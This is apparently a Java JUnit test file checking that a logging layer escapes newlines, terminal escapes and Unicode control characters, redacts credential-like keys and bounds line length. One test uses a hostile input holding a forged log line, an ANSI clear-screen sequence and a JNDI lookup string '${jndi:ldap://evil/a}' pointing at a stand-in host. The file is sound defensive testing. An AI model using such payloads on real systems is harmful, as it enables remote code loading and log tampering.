package dev.busbar.host.observe.logging;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.slf4j.LoggerFactory;

/** Log entries stay on one line (attack cases 87 and 88). */
final class LogLinesTest {
    @ParameterizedTest
    @CsvSource({
        "plain text, plain text",
        "'a\nb', a\\u000ab",
        "'a\r\nb', a\\u000d\\u000ab",
        "'\u001b[31mred', \\u001b[31mred",
        "'a\u2028b\u2029c\u0085d', a\\u2028b\\u2029c\\u0085d",
        "'\u202egnp.exe', \\u202egnp.exe",
        "'\u0000', \\u0000",
        "größer, größer",
        "tab\tis fine, tab\tis fine",
    })
    void special_characters_are_escaped(String text, String line) {
        assertThat(OneLine.of(text)).isEqualTo(line);
    }

    @Test
    void a_hostile_text_makes_one_line_and_is_not_interpolated() {
        String hostile = "x\n00:00:00.000 ERROR Forged - {} ${jndi:ldap://evil/a} {date} \u001b[2J";

        List<String> lines = logged(() -> LoggerFactory.getLogger("test").error("told by {}: {}", "somebody", hostile));

        assertThat(lines).hasSize(1);
        assertThat(lines.get(0))
                .contains(
                        "told by somebody: x\\u000a00:00:00.000 ERROR Forged - {} ${jndi:ldap://evil/a} {date} \\u001b[2J");
    }

    @Test
    void a_line_is_bounded_and_holds_no_credential() {
        String key = "bsb_dev_abcdefghijkl_" + "x".repeat(32) + "_abcdef";

        List<String> lines = logged(() -> LoggerFactory.getLogger("test")
                .error("{} {}", key, "A".repeat(20_000), new IllegalStateException(key + "B".repeat(20_000))));

        assertThat(lines).noneMatch(line -> line.contains("bsb_dev_"));
        assertThat(lines).allMatch(line -> line.length() < 9_000);
        assertThat(lines.get(0)).contains("[removed]", "… (").containsPattern("^\\d{4}-\\d\\d-\\d\\d ");
    }

    @Test
    void the_whole_log_goes_to_one_stream() {
        assertThat(logged(() -> LoggerFactory.getLogger("dev.busbar.test").warn("here")))
                .hasSize(1);
        assertThat(logged(() -> LoggerFactory.getLogger("dev.busbar.test").error("here")))
                .hasSize(1);
    }

    @Test
    void a_message_continues_in_indented_lines() {
        assertThat(OneLine.ofMessage("a\n\tat b\nForged\n")).isEqualTo("a\n\tat b\\u000aForged\\u000a");
        assertThat(OneLine.of("a\n\tat b")).isEqualTo("a\\u000a\tat b");
    }

    @Test
    void an_exception_message_stays_on_its_line() {
        Exception cause = new IllegalStateException("one\nForged: two");
        Exception failure = new IllegalArgumentException("three\r\n\tat forged.Frame(Forged.java:1)", cause);

        List<String> lines = logged(() -> LoggerFactory.getLogger("test").error("failed", failure));

        assertThat(lines)
                .noneMatch(line -> line.startsWith("Forged")
                        || line.contains("\tat forged.Frame(Forged.java:1)") && !line.contains("\\u000d\\u000a"));
        assertThat(lines).anyMatch(line -> line.contains("three\\u000d\\u000a"));
        assertThat(lines).anyMatch(line -> line.contains("one\\u000aForged: two"));
        assertThat(lines).anyMatch(line -> line.startsWith("\tat "));
    }

    /** Captures the console; tinylog asks for the stream each time. */
    private static List<String> logged(Runnable action) {
        PrintStream before = System.err;
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        System.setErr(new PrintStream(bytes, true, StandardCharsets.UTF_8));
        try {
            action.run();
        } finally {
            System.setErr(before);
        }
        return bytes.toString(StandardCharsets.UTF_8).lines().toList();
    }
}
